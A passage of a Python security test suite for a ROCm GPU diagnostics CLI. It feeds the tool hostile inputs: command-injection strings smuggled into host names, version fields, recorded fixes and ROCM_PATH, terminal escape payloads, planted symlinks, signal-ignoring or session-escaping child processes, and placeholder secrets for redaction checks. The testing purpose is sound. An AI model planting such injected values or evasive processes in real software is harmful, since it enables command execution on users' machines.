        row = {"t": float(i), "gpu": 0, "used_bytes": 40 * GIB, "total_bytes": 192 * GIB, "power_w": 500.0,
               "util_pct": 90.0, "temp_c": 60.0, "sm_clock_mhz": 2100.0, "mem_clock_mhz": 1300.0,
               "proc_bytes": None, "host": host}
        row.update(over)
        lines.append(json.dumps(row))
    return "\n".join(lines) + "\n"


def replay(box: Box, *paths: str, out: str | None = None, force: bool = False) -> Ran:
    args = ["monitor", "--replay"]
    args += [a for p in paths for a in (p, "--replay")][:-1] if len(paths) > 1 else list(paths)
    if out:
        args += ["--out", out]
    if force:
        args.append("--force")
    return box.rocmcheck(*args)


def replay_survives(box: Box, *paths: str, out: str | None = None) -> Outcome:
    """A hostile recording: one line and exit 2, or judged (0/1/3); never a traceback or a hang."""
    ran = replay(box, *paths, out=out)
    problems = basic(ran, codes=(0, 1, 2, 3), max_s=30)
    if ran.rc == 2:
        problems += refused(ran)
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()}")


def hung_signal(box: Box, argv: list[str], sig: int, after_s: float, *, code: int, env=None,
                within_s: float = 3.0, target: str = "group", timeout: float = 60) -> Outcome:
    """argv (a rocmcheck command) gets sig after after_s: it exits 128+sig within within_s, nothing left."""
    ran = box.rocmcheck(*argv, env=env, send=(after_s, sig, target), timeout=timeout)
    problems = basic(ran, codes=(code,))
    if ran.after_signal_s is None:
        problems.append(f"it ended before the signal ({ran.seconds:.1f} s, exit {ran.rc}): {ran.last_line()}")
    elif ran.after_signal_s > within_s:
        problems.append(f"exited {ran.after_signal_s:.1f} s after the signal (bound {within_s:.0f} s)")
    took = f"{ran.after_signal_s:.2f} s" if ran.after_signal_s is not None else "?"
    return verdict(problems, f"exit {ran.rc} {took} after {signal.Signals(sig).name}, nothing left running")


HANGING_IMPORT = """
    import os, signal, time
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    time.sleep(301)
    """


# ============================================================================================ table 1: findings
# ---------------------------------------------------------------- S3-1 compare's fix block runs bundle data

@finding("P36", "S3-1", "injection", "compare: a host name holding a newline and a command")
def p36(box: Box) -> Outcome:
    folder = three_nodes(box, lambda d: set_torch(d, "9.9.9"), hosts=("node1", "node2", "node3\ntouch PWNED #"))
    return compare_pastes(box, folder)


@finding("P37", "S3-1", "injection", "compare: two of three bundles say torch `2.5.1; touch PWNED; #`")
def p37(box: Box) -> Outcome:
    folder = three_nodes(box, lambda d: set_torch(d, "2.5.1; touch PWNED_CMP_VALUE; #"), odd_count=2)
    return compare_pastes(box, folder)


@finding("P30", "S3-1", "injection", "doctor --bundle --fixes-only: a recorded fix with a newline and a command")
def p30(box: Box) -> Outcome:
    doc = base_bundle()
    doc["facts"]["recorded_results"] = [recorded(fix={"kind": "shell", "text": "rocmcheck smoke-train\ntouch "
                                                      "PWNED_BUNDLE_FIX", "why": "", "file": ""})]
    return replay_pastes(box, doc)


# ---------------------------------------------------------------- S3-2 the ROCm root pasted unquoted

@finding("I11", "S3-2", "injection", "rocm.install fix: ROCM_PATH `r;touch PWNED;#` (no hipconfig)")
def i11(box: Box) -> Outcome:
    root = box.path("r;touch PWNED;#")
    root.mkdir()
    amd_machine(box)
    return doctor_pastes(box, "--only", "rocm", env=box.env(ROCM_PATH=str(root)))


@finding("I12", "S3-2", "injection", "rocm.install fix: an honest ROCm folder with a space (`ROCm 6.2`)")
def i12(box: Box) -> Outcome:
    root = box.path("ROCm 6.2")
    (root / ".info").mkdir(parents=True)
    (root / ".info" / "version").write_text("6.2.0-1\n")
    amd_machine(box)
    ran = doctor(box, "--only", "rocm", "--fixes-only", env=box.env(ROCM_PATH=str(root)))
    problems = basic(ran, codes=(0, 1, 3))
    pasted = box.paste(ran.out)
    problems += pasted.problems()
    split = [a for argv in pasted.calls for a in argv if a.endswith("/ROCm") or a.startswith("6.2/")]
    if split:
        problems.append(f"the path splits into words: {split[:2]}")
    return verdict(problems, f"exit {ran.rc}; the path stays one word in every pasted command")


@finding("P29", "S3-2", "injection", "doctor --bundle: env and rocm_layout name `/opt/rocm;touch PWNED;#`")
def p29(box: Box) -> Outcome:
    doc = amd_bundle()
    bad = "/opt/rocm;touch PWNED_ROCMPATH;#"
    doc["facts"]["env"]["ROCM_PATH"] = bad
    doc["facts"]["rocm_layout"]["roots"] = {bad: {"info_version": None, "therock_cores": {}}}
    return replay_pastes(box, doc)


# ---------------------------------------------------------------- S3-3 quadratic redaction

@finding("T20", "S3-3", "slow", "doctor: every tool prints one 100 MB line", limit_s=150)
def t20(box: Box) -> Outcome:
    for tool in ("rocm-smi", "rocminfo", "amd-smi", "hipconfig"):
        box.fake(tool, 'head -c 100000000 /dev/zero | tr "\\0" x\n')
    ran = doctor(box, timeout=120)
    problems = basic(ran, codes=(0, 1, 3), max_s=75)
    if "Verdict:" not in ran.out:
        problems.append("no verdict line printed")
    return verdict(problems, f"report printed in {ran.seconds:.1f} s (exit {ran.rc})")


@finding("T48", "S3-3", "slow", "doctor: a torch whose __version__ is 5 MB")
def t48(box: Box) -> Outcome:
    box.module("torch", '__version__ = "x" * 5_000_000\n')
    ran = doctor(box, timeout=100)
    problems = basic(ran, codes=(0, 1, 3), max_s=60)
    if "Verdict:" not in ran.out:
        problems.append("no verdict line printed")
    return verdict(problems, f"report printed in {ran.seconds:.1f} s (exit {ran.rc})")


@finding("P03", "S3-3", "slow", "doctor --bundle: a recorded result whose id is 100 kB")
def p03(box: Box) -> Outcome:
    doc = base_bundle()
    doc["facts"]["recorded_results"] = [recorded(id="x" * 100_000)]
    box.json("b.json", doc)
    ran = box.rocmcheck("doctor", "--bundle", "b.json")
    problems = basic(ran, codes=(0, 1, 2, 3), max_s=20)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.1f} s: {ran.last_line()[:80]}")


@finding("T55", "S3-3", "slow", "doctor: a 100 kB hex line in rocminfo (held before, kept held)")
def t55(box: Box) -> Outcome:
    box.fake_prints("rocminfo", rocminfo_text() + "0123456789abcdef" * 6400 + "\n")
    ran = doctor(box)
    problems = basic(ran, codes=(0, 1, 3), max_s=30)
    return verdict(problems, f"report printed in {ran.seconds:.1f} s (exit {ran.rc})")


# ---------------------------------------------------------------- S3-5 SIGHUP leaves children

@finding("G03", "S3-5", "signals", "SIGHUP during doctor while nvidia-smi ignores signals and hangs")
def g03(box: Box) -> Outcome:
    box.fake_hangs("nvidia-smi")
    return hung_signal(box, ["doctor", "--no-train", "--no-gpu-probes"], signal.SIGHUP, 3, code=129)


@finding("G23", "S3-5", "signals", "SIGHUP during lint while its DeepSpeed child hangs on import")
def g23(box: Box) -> Outcome:
    box.module("deepspeed", HANGING_IMPORT)
    box.json("c.json", {"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 2}})
    return hung_signal(box, ["lint", "c.json"], signal.SIGHUP, 3, code=129)


@finding("G53", "S3-5", "signals", "SIGHUP during plan --measure while its child hangs importing torch")
def g53(box: Box) -> Outcome:
    box.module("torch", HANGING_IMPORT)
    return hung_signal(box, ["plan", "--model", "tinyllama-1.1b", "--measure", "--timeout", "120"],
                       signal.SIGHUP, 3, code=129)


@finding("G73", "S3-5", "signals", "SIGHUP during probe all while the probe child hangs importing torch")
def g73(box: Box) -> Outcome:
    box.module("torch", HANGING_IMPORT)
    return hung_signal(box, ["probe", "all"], signal.SIGHUP, 3, code=129)


@finding("G83", "S3-5", "signals", "SIGHUP during build-env --arch auto while rocminfo hangs")
def g83(box: Box) -> Outcome:
    box.fake_hangs("rocminfo")
    return hung_signal(box, ["build-env", "--arch", "auto"], signal.SIGHUP, 2, code=129)


@finding("G33", "S3-5", "signals", "SIGHUP during the doctor's smoke-train stage", limit_s=150)
def g33(box: Box) -> Outcome:
    return hung_signal(box, ["doctor", "--no-gpu-probes"], signal.SIGHUP, 12, code=129, timeout=120)


@finding("G13", "S3-5", "signals", "SIGHUP during smoke-train --gpus 2 --device cpu (two ranks)", limit_s=150,
         owner="train")
def g13(box: Box) -> Outcome:
    return hung_signal(box, ["smoke-train", "--gpus", "2", "--device", "cpu", "--steps", "400", "--no-profile"],
                       signal.SIGHUP, 15, code=129, timeout=120)


# ---------------------------------------------------------------- S3-6 lint reads config.json plainly

def lint_model_dir(box: Box, make_config: Callable[[Path], None], model: str = "mdl") -> Outcome:
    """A LLaMA-Factory YAML whose model_name_or_path holds a hostile config.json: lint answers promptly."""
    folder = box.path("y") / model
    if not model.startswith("~"):
        folder.mkdir(parents=True)
        make_config(folder / "config.json")
    else:
        box.path("y").mkdir()
    box.write("y/t.yaml", f"model_name_or_path: {model}\nstage: sft\ndo_train: true\nfinetuning_type: lora\n")
    ran = box.rocmcheck("lint", "y/t.yaml")
    problems = basic(ran, codes=(0, 1, 2, 3), max_s=30)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.1f} s: {ran.last_line()[:100]}")


@finding("F67", "S3-6", "inputs", "lint: the model's config.json is a FIFO", fast=True)
def f67(box: Box) -> Outcome:
    return lint_model_dir(box, lambda p: os.mkfifo(p))


@finding("F125", "S3-6", "inputs", "lint: the model's config.json is a link to /dev/zero")
def f125(box: Box) -> Outcome:
    return lint_model_dir(box, lambda p: os.symlink("/dev/zero", p))


@finding("F126", "S3-6", "inputs", "lint: the model's config.json is 100 000 lists deep")
def f126(box: Box) -> Outcome:
    return lint_model_dir(box, lambda p: p.write_text(deep_json()))


@finding("F114", "S3-6", "inputs", "lint: model_name_or_path `~nosuchuser/model`")
def f114(box: Box) -> Outcome:
    return lint_model_dir(box, lambda p: None, model="~nosuchuser/model")


# ---------------------------------------------------------------- S3-7 configs on a child's command line

def cmdline_watch(secret: str) -> tuple[Callable[[], None], list[str]]:
    seen: list[str] = []

    def look() -> None:
        for entry in os.listdir("/proc"):
            if entry.isdigit() and not seen:
                try:
                    with open(f"/proc/{entry}/cmdline", "rb") as fh:
                        if secret.encode() in fh.read():
                            seen.append(entry)
                except OSError:
                    pass
    return look, seen


@finding("F30", "S3-7", "secrets", "lint: a DeepSpeed config's comet.api_key on the child's command line")
def f30(box: Box) -> Outcome:
    secret = "cmt_SECRET30abcdefgh"
    box.json("c.json", {"train_micro_batch_size_per_gpu": 1, "comet": {"enabled": False, "api_key": secret}})
    look, seen = cmdline_watch(secret)
    ran = box.rocmcheck("lint", "c.json", during=look)
    problems = basic(ran, codes=(0, 1))
    if seen:
        problems.append(f"the secret is in /proc/{seen[0]}/cmdline")
    problems += leaks([ran.both], [secret])
    return verdict(problems, f"exit {ran.rc}; no process showed it on its command line, the output neither")


@finding("F31", "S3-7", "secrets", "lint: a training YAML's inline deepspeed dict with a secret")
def f31(box: Box) -> Outcome:
    secret = "SECRET31wandbkey0123456789"
    box.write("t.yaml", "model_name_or_path: m\nstage: sft\ndo_train: true\nfinetuning_type: lora\n"
                        "deepspeed:\n  train_micro_batch_size_per_gpu: 1\n"
                        f"  comet:\n    enabled: false\n    api_key: {secret}\n")
    look, seen = cmdline_watch(secret)
    ran = box.rocmcheck("lint", "t.yaml", during=look)
    problems = basic(ran, codes=(0, 1))
    if seen:
        problems.append(f"the secret is in /proc/{seen[0]}/cmdline")
    problems += leaks([ran.both], [secret])
    return verdict(problems, f"exit {ran.rc}; not on any command line, not in the output")


@finding("F29", "S3-7", "secrets", "lint: a valid 200 kB DeepSpeed config is still validated by DeepSpeed")
def f29(box: Box) -> Outcome:
    box.json("c.json", {"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 2},
                        "comet": {"enabled": False, "project": "p" * 200_000}})
    ran = box.rocmcheck("lint", "c.json")
    problems = basic(ran, codes=(0, 1))
    for bad in ("Argument list too long", "skipped"):
        if bad in ran.both:
            problems.append(f"says {bad!r}")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


# ---------------------------------------------------------------- S3-8 redaction misses

REDACTION_CASES = {  # id: (where, the line, what must not appear)
    "S01": ("env", "HIP_DB_PASSWORD=p@ss;w0rdSECRET01", "w0rdSECRET01"),
    "S02": ("env", "HSA_SECRET=correct horse battery stapleSECRET02", "stapleSECRET02"),
    "S03": ("env", "HIP_TOKEN=abc,defSECRET03", "defSECRET03"),
    "S04": ("env", "HIP_API_KEY=ab}cdSECRET04", "cdSECRET04"),
    "S05": ("env", "HIP_MIRROR=https://user:p@ssSECRET05@host/x", "ssSECRET05"),
    "S06": ("env", "HF_ENDPOINT=https://acct.blob.core.windows.net/c?sv=2022-11-02&sig=AzureSasSECRET06abcd",
            "AzureSasSECRET06"),
    "S07": ("env", "HF_HUB_URL=https://bucket.s3.amazonaws.com/x?X-Amz-Credential=AKIAEXAMPLE%2F20261201"
            "&X-Amz-Signature=S3SIGSECRET07abcdef", "S3SIGSECRET07"),
    "S08": ("tool", "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBGSECRET08keymaterialAAAAB3NzaC1yc2E\n"
            "=Ab12\n-----END PGP PRIVATE KEY BLOCK-----", "SECRET08keymaterial"),
    "S09": ("env", "HIP_REPO=https://0123456789abcdef0123456789abcdef01234567@github.com/o/r.git",
            "0123456789abcdef0123456789abcdef01234567"),
    "S10": ("tool", "Authorization: token SECRET10abcdefghij", "SECRET10abcdefghij"),
    "S11": ("tool", "authorization: bearer SECRET11abcdefghij", "SECRET11abcdefghij"),
    "S12": ("env", "HIP_ODBC=Driver={ODBC Driver 18};Server=db;Uid=sa;Pwd=OdbcSECRET12x9;", "OdbcSECRET12x9"),
    "S13": ("env", "HIP_HOOK=https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXSE13",
            "XXXXXXXXXXXXXXXXXXXXSE13"),
    "S22": ("tool", "HIP_AWS=aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRET22",
            "bPxRfiCYSECRET22"),
    "S25": ("env", 'HIP_CFG=password: "Quoted SECRET25 with spaces"', "SECRET25"),
    "S26": ("tool", '{"username": "u", "key": "0a1b2c3d4e5f60718293a4b5c6d7e8f9"}', "0a1b2c3d4e5f60718293a4b5c6d7e8f9"),
    "S27": ("env", "HF_DSN=postgresql://app@db:5432/x?password=QueryPwSECRET27", "QueryPwSECRET27"),
}


def redaction_run() -> dict[str, str]:
    """One doctor run (and one replay of its bundle) with every REDACTION_CASES secret in the environment and in
    hipconfig --full's output (which prints the environment): the texts that leave the machine."""
    if "redaction" not in _SHARED:
        box = Box(SCRATCH, "redaction")
        lines = ["HIP version: 6.2.41133-dd7f95766", "== hipconfig", "== Environment Variables"]
        env = box.env()
        for where, line, _ in REDACTION_CASES.values():
            lines.append(line)
            if where == "env":
                name, _, value = line.partition("=")
                env[name] = value
        box.fake_prints("hipconfig", "\n".join(lines) + "\n")
        ran = doctor(box, "-v", "--out", "b.json", env=env)
        bundle = box.path("b.json").read_text() if box.path("b.json").exists() else ""
        again = box.rocmcheck("doctor", "--bundle", "b.json", "-v", "--json")
        _SHARED["redaction"] = {"bundle": bundle, "report": ran.both, "replay": again.both,
                                "problems": "; ".join(basic(ran, codes=(0, 1, 3)))}
    return _SHARED["redaction"]  # type: ignore[return-value]


def redaction_case(case: str) -> Callable[[Box], Outcome]:
    def run(box: Box) -> Outcome:
        texts = redaction_run()
        where, line, secret = REDACTION_CASES[case]
        problems = [texts["problems"]] if texts["problems"] else []
        if not texts["bundle"]:
            problems.append("no bundle written")
        for name in ("bundle", "report", "replay"):
            if secret in texts[name]:
                problems.append(f"{secret[:20]!r} in the {name}")
        return verdict(problems, f"{line[:48]!r} redacted in the bundle, the -v report and the replay")
    return run


for _case, (_where, _line, _secret) in REDACTION_CASES.items():
    finding(_case, "S3-8", "secrets", f"redaction ({_where}): {_line[:60]}")(redaction_case(_case))


@finding("T49", "S3-8", "secrets", "a torch import error quoting password=... (probe's event line too)")
def t49(box: Box) -> Outcome:
    box.module("torch", 'raise ImportError("libamdhip64.so: cannot open, url http://h/x password=hunter2hunter2 x")\n')
    ran = doctor(box, "--out", "b.json", "-v")
    problems = basic(ran, codes=(0, 1, 3))
    problems += leaks([box.path("b.json").read_text() if box.path("b.json").exists() else "", ran.both],
                      ["hunter2hunter2"])
    return verdict(problems, "redacted in probes.torch.error, probe_runs.torch.stdout and the report")



# ---------------------------------------------------------------- S3-9 Ctrl-C waits for hung tools

@finding("G94", "S3-9", "signals", "SIGINT to the doctor while rocm-smi ignores SIGTERM and hangs")
def g94(box: Box) -> Outcome:
    box.fake("rocm-smi", 'trap "" TERM\nexec sleep 600\n')
    return hung_signal(box, ["doctor", "--no-train", "--no-gpu-probes"], signal.SIGINT, 4, code=130, within_s=2)


@finding("G01", "S3-9", "signals", "SIGINT to the doctor while every tool hangs")
def g01(box: Box) -> Outcome:
    for tool in ("rocminfo", "rocm-smi", "amd-smi", "hipconfig", "nvidia-smi", "journalctl", "dmesg"):
        box.fake_hangs(tool)
    return hung_signal(box, ["doctor", "--no-train", "--no-gpu-probes"], signal.SIGINT, 4, code=130, within_s=2)


@finding("R05", "S3-9", "signals", "SIGINT to the doctor while rocminfo ignores SIGTERM and hangs")
def r05(box: Box) -> Outcome:
    box.fake("rocminfo", 'trap "" TERM\nexec sleep 600\n')
    return hung_signal(box, ["doctor", "--no-train", "--no-gpu-probes"], signal.SIGINT, 4, code=130, within_s=2)


# ---------------------------------------------------------------- S3-10 outputs follow symlinks

def dangling_out(box: Box, argv_for: Callable[[str], list[str]], name: str = "l.json") -> Outcome:
    """The output path is a planted link to a file that does not exist yet: nothing may appear at its target."""
    (box.path("outside")).mkdir()
    symlink(box, name, box.path("outside") / "new.json")
    ran = box.rocmcheck(*argv_for(name))
    problems = basic(ran, codes=(0, 1, 2, 3))
    made = list(box.path("outside").iterdir())
    if made:
        problems.append(f"wrote {made[0].name} at the link's target")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:110]}")


@finding("O03", "S3-10", "outputs", "doctor --out: a dangling link planted as the bundle name")
def o03(box: Box) -> Outcome:
    return dangling_out(box, lambda n: ["doctor", "--no-train", "--no-gpu-probes", "--only", "os", "--out", n])


@finding("O18", "S3-10", "outputs", "build-env -o: a dangling link planted as the output", fast=True)
def o18(box: Box) -> Outcome:
    return dangling_out(box, lambda n: ["build-env", "--arch", "gfx942", "-o", n])


@finding("O23", "S3-10", "outputs", "recipes write: a dangling link planted as zero2.json")
def o23(box: Box) -> Outcome:
    box.path("d").mkdir()
    return dangling_out(box, lambda n: ["recipes", "write", "zero2", "d"], name="d/zero2.json")


def monitor_recording(box: Box, host: str = "h1", folder: str = "rec") -> Path:
    return box.write(f"{folder}/memory-{host}.jsonl", recording(host))


@finding("O35", "S3-10", "outputs", "monitor --replay --out: a real verdict-<host>.json there, no --force")
def o35(box: Box) -> Outcome:
    monitor_recording(box)
    mine = box.write("out/verdict-h1.json", "the user's own file\n")
    ran = replay(box, "rec", out="out")
    problems = basic(ran, codes=(0, 1, 2, 3))
    if mine.read_text() != "the user's own file\n":
        problems.append("the existing verdict file was overwritten without --force")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


@finding("O36", "S3-10", "outputs", "monitor --replay --out --force: verdict-<host>.json is a link to a file outside")
def o36(box: Box) -> Outcome:
    monitor_recording(box)
    outside = box.write("outside/keep.txt", "outside\n")
    box.path("out").mkdir()
    symlink(box, "out/verdict-h1.json", outside)
    ran = replay(box, "rec", out="out", force=True)
    problems = basic(ran, codes=(0, 1, 2, 3))
    if outside.read_text() != "outside\n":
        problems.append("the file outside was written through the link")
    return verdict(problems, f"exit {ran.rc}; the file outside is untouched")


@finding("O41", "S3-10", "outputs", "smoke-train --out --force: report.json is a link to a file outside",
         owner="train", limit_s=200)
def o41(box: Box) -> Outcome:
    outside = box.write("outside/keep.txt", "outside\n")
    box.path("o").mkdir()
    box.write("o/metrics.jsonl", "")
    symlink(box, "o/report.json", outside)
    ran = box.rocmcheck("smoke-train", "--steps", "10", "--no-profile", "--out", "o", "--force", timeout=170)
    problems = basic(ran, codes=(0, 1, 2, 3))
    if outside.read_text() != "outside\n":
        problems.append("the file outside was written through the link")
    return verdict(problems, f"exit {ran.rc}; the file outside is untouched")


# ---------------------------------------------------------------- S3-11 ranks beyond the machine

@finding("BX03", "S3-11", "resources", "smoke-train --gpus 64 on a 2-core CPU box", owner="train")
def bx03(box: Box) -> Outcome:
    ran = box.rocmcheck("smoke-train", "--gpus", "64", "--steps", "10", "--no-profile", timeout=90)
    problems = refused(ran, max_s=30)
    return verdict(problems, f"refused: {ran.last_line()[:110]}")


# ---------------------------------------------------------------- S3-12 monitor --replay on hostile recordings

def replay_case(content: Callable[[Box], str], out: bool = False) -> Callable[[Box], Outcome]:
    def run(box: Box) -> Outcome:
        path = content(box)
        return replay_survives(box, path, out="o" if out else None)
    return run


def _rec(name: str, data: str | bytes) -> Callable[[Box], str]:
    def make(box: Box) -> str:
        box.write(name, data)
        return name
    return make


CSV_HEADER = "t,gpu,used_bytes,total_bytes,power_w,util_pct,temp_c,sm_clock_mhz,mem_clock_mhz,proc_bytes,host\n"
MONITOR_CASES = {
    "M31": ("a JSONL that is not UTF-8", _rec("memory-h.jsonl", b'{"t": 0, "gpu": 0, "host": "h\xff\xfe"}\n'), False),
    "M32": ("CSV gpu `nan`", _rec("memory-h.csv", CSV_HEADER + "0,nan,1,2,,,,,,,h\n"), False),
    "M33": ("CSV used_bytes `inf`", _rec("memory-h.csv", CSV_HEADER + "0,0,inf,2,,,,,,,h\n"), False),
    "M34": ("CSV words for numbers", _rec("memory-h.csv", CSV_HEADER + "zero,one,two,three,,,,,,,h\n"), False),
    "M35": ("JSONL t as strings", _rec("memory-h.jsonl", recording("h", 5, t="soon")), False),
    "M36": ("JSONL host a list", _rec("memory-h.jsonl", recording(["a", "b"], 5)), False),
    "M40": ("JSONL NaN and Infinity values",
            _rec("memory-h.jsonl", '{"t": NaN, "gpu": 0, "used_bytes": Infinity, "host": "h"}\n'), False),
    "M41": ("JSONL gpu 10**50", _rec("memory-h.jsonl", recording("h", 5, gpu=10**50)), False),
    "M39": ("a 100 000-deep JSON line", _rec("memory-h.jsonl", deep_json() + "\n"), False),
    "M37": ("host `a/b`, then --out", _rec("memory-h.jsonl", recording("a/b", 60)), True),
    "M38": ("host with terminal payloads, then --out",
            _rec("memory-h.jsonl", recording("h\x1b]0;owned\x07\x1b[2J", 60)), True),
    "M48": ("host `h$\\bogus$` (matplotlib mathtext), then --out", _rec("memory-h.jsonl", recording("h$\\bogus$", 60)),
            True),
}


for _id, (_title, _make, _out) in MONITOR_CASES.items():
    finding(_id, "S3-12", "inputs", f"monitor --replay: {_title}")(replay_case(_make, _out))


@finding("M43", "S3-12", "inputs", "monitor --replay: a folder named memory-x.jsonl")
def m43(box: Box) -> Outcome:
    box.path("rec/memory-x.jsonl").mkdir(parents=True)
    return replay_survives(box, "rec/memory-x.jsonl")


@finding("M47", "S3-12", "inputs", "monitor --replay: a doctor bundle given as a recording")
def m47(box: Box) -> Outcome:
    box.json("memory-b.jsonl", base_bundle())
    return replay_survives(box, "memory-b.jsonl")


@finding("M44", "S3-12", "inputs", "monitor --replay: a FIFO")
def m44(box: Box) -> Outcome:
    mkfifo(box, "memory-f.jsonl")
    return replay_survives(box, "memory-f.jsonl")


@finding("M45", "S3-12", "inputs", "monitor --replay: a link to /dev/zero")
def m45(box: Box) -> Outcome:
    symlink(box, "memory-z.jsonl", "/dev/zero")
    return replay_survives(box, "memory-z.jsonl")


# ---------------------------------------------------------------- S3-13 monitor writes the command line

def monitor_secrets(box: Box, command: list[str], secrets: list[str]) -> Outcome:
    nvidia_machine(box)
    ran = box.rocmcheck("monitor", "--backend", "nvidia-smi", "--interval", "0.2", "--out", "o", "--quiet", "--",
                        *command)
    problems = basic(ran, codes=(0, 1, 3))
    files = [p.read_text(errors="replace") for p in box.path("o").glob("*")] if box.path("o").exists() else []
    if not any("watched_command" in f for f in files):
        problems.append("no verdict file written")
    problems += leaks([ran.both, *files], secrets)
    return verdict(problems, f"exit {ran.rc}; the command line is redacted in verdict-<host>.json and on stderr")


@finding("S31", "S3-13", "secrets", "monitor -- CMD --hub_token hf_... --wandb_api_key=... --db-password=...",
         fast=True)
def s31(box: Box) -> Outcome:
    hf = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3f"
    wandb, db = "0123456789abcdef0123456789abcdef01234567", "Sup3rS3cretDbPw31"
    return monitor_secrets(box, ["sh", "-c", "sleep 1", "sh", "--hub_token", hf, f"--wandb_api_key={wandb}",
                                 f"--db-password={db}"], [hf, wandb, db])


# ---------------------------------------------------------------- S3-14 non-finite sizes in amd-smi's JSON

def amd_smi_size(raw_value: str) -> Callable[[Box], Outcome]:
    def run(box: Box) -> Outcome:
        amd_machine(box, smi=amd_smi_static(vram=0).replace('"value": 0', f'"value": {raw_value}'))
        ran = doctor(box)
        problems = basic(ran, codes=(0, 1, 3))
        if "Verdict:" not in ran.out:
            problems.append("no verdict line")
        return verdict(problems, f"exit {ran.rc}: the report printed")
    return run


for _id, _raw in (("T31", "1e999"), ("T56", "NaN"), ("T57", "9" * 400), ("T58", "-1e999")):
    finding(_id, "S3-14", "inputs", f"amd-smi static --json: vram size {_raw[:12]}")(amd_smi_size(_raw))


# ---------------------------------------------------------------- S3-15 processes that leave the group/session

@finding("T17", "S3-15", "signals", "doctor: a tool whose child moves to a new session")
def t17(box: Box) -> Outcome:
    box.fake("rocm-smi", "setsid sleep 1000 &\necho done\n")
    ran = doctor(box, timeout=90)
    return verdict(basic(ran, codes=(0, 1, 3), max_s=60), f"exit {ran.rc} in {ran.seconds:.1f} s, nothing left")


@finding("T28", "S3-15", "signals", "doctor: a tool whose child moves to a new process group")
def t28(box: Box) -> Outcome:
    box.fake("rocm-smi", f'{shlex.quote(sys.executable)} -c "import os, time; os.setpgid(0, 0); time.sleep(1000)" &\n'
                         "echo done\n")
    ran = doctor(box, timeout=90)
    return verdict(basic(ran, codes=(0, 1, 3), max_s=60), f"exit {ran.rc} in {ran.seconds:.1f} s, nothing left")


@finding("T50", "S3-15", "signals", "doctor: importing torch starts a setsid daemon")
def t50(box: Box) -> Outcome:
    box.module("torch", """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(1000)
            os._exit(0)
        raise ImportError("no torch here")
        """)
    ran = doctor(box, timeout=90)
    return verdict(basic(ran, codes=(0, 1, 3), max_s=60), f"exit {ran.rc} in {ran.seconds:.1f} s, nothing left")


@finding("T51", "S3-15", "signals", "doctor: importing torch forks a grandchild that holds the probe's pipes")
def t51(box: Box) -> Outcome:
    box.module("torch", """
        import os, time
        if os.fork() == 0:
            time.sleep(1000)
            os._exit(0)
        raise ImportError("no torch here")
        """)
    ran = doctor(box, timeout=90)
    return verdict(basic(ran, codes=(0, 1, 3), max_s=60), f"exit {ran.rc} in {ran.seconds:.1f} s, nothing left")


# ---------------------------------------------------------------- S3-16 hung kernel log

@finding("T33", "S3-16", "verdicts", "doctor: journalctl and dmesg both hang (blamed on permissions?)")
def t33(box: Box) -> Outcome:
    box.fake_hangs("journalctl")
    box.fake_hangs("dmesg")
    ran = doctor(box, "--only", "health", timeout=90)
    problems = basic(ran, codes=(0, 1, 3), max_s=30)
    line = next((ln for ln in ran.out.splitlines() if "health.kernel_log" in ln), "")
    if not line:
        problems.append("no health.kernel_log verdict")
    elif "sudo" in line or "systemd-journal" in line:
        problems.append(f"blamed on permissions: {line.strip()[:120]}")
    return verdict(problems, f"{ran.seconds:.1f} s; {' '.join(line.split())[:120]}")



# ---------------------------------------------------------------- S3-4 a config.json the planner cannot size

def smoke_model(box: Box, config: dict | None, *args: str, timeout: float = 150) -> Ran:
    model = tiny_model(box)
    if config is not None:
        (model / "config.json").write_text(json.dumps(config))
    return box.rocmcheck("smoke-train", "--model", str(model), "--steps", "10", "--no-profile", *args,
                         timeout=timeout, resident_cap=4 * GIB)


@finding("F121", "S3-4", "resources", "smoke-train --model: config.json only {\"model_type\": \"llama\"}",
         owner="train", limit_s=200)
def f121(box: Box) -> Outcome:
    ran = smoke_model(box, {"model_type": "llama"})
    problems = basic(ran, codes=(1, 2, 3), max_s=90)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.1f} s, peak {ran.peak_rss / GIB:.1f} GiB: "
                             f"{ran.last_line()[:90]}")


@finding("F105r", "S3-4", "resources", "smoke-train --model: sizes above the planner's limits",
         owner="train", limit_s=200)
def f105r(box: Box) -> Outcome:
    config = json.loads((TINY_MODEL / "config.json").read_text())
    config.update(hidden_size=2**20, num_hidden_layers=100_000, vocab_size=2**30, intermediate_size=2**22)
    ran = smoke_model(box, config)
    problems = basic(ran, codes=(1, 2, 3), max_s=90)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.1f} s, peak {ran.peak_rss / GIB:.1f} GiB: "
                             f"{ran.last_line()[:90]}")


# ---------------------------------------------------------------- S3-17 a `$` in the model folder's name

@finding("F120", "S3-17", "outputs", "smoke-train --model 'm$\\bogus$' --out o (mathtext in the plot title)",
         owner="train", limit_s=200)
def f120(box: Box) -> Outcome:
    model = tiny_model(box, "m$\\bogus$")
    ran = box.rocmcheck("smoke-train", "--model", str(model), "--steps", "10", "--no-profile", "--out", "o",
                        timeout=170)
    problems = basic(ran, codes=(0, 1))
    if "Verdict:" not in ran.out:
        problems.append("no verdict line")
    if not box.path("o/loss_memory.png").exists():
        problems.append("no plot written")
    return verdict(problems, f"exit {ran.rc}; the report and the plot are written")


# ---------------------------------------------------------------- S3-18 the write-failure fix is not a command

def write_fix_problems(box: Box, ran: Ran) -> list[str]:
    pasted = box.paste(paste_block(ran.out) or ran.out)
    problems = pasted.problems()
    for argv in pasted.calls:
        if argv and argv[0] == "mkdir" and {"and", "check", "writable"} & set(argv):
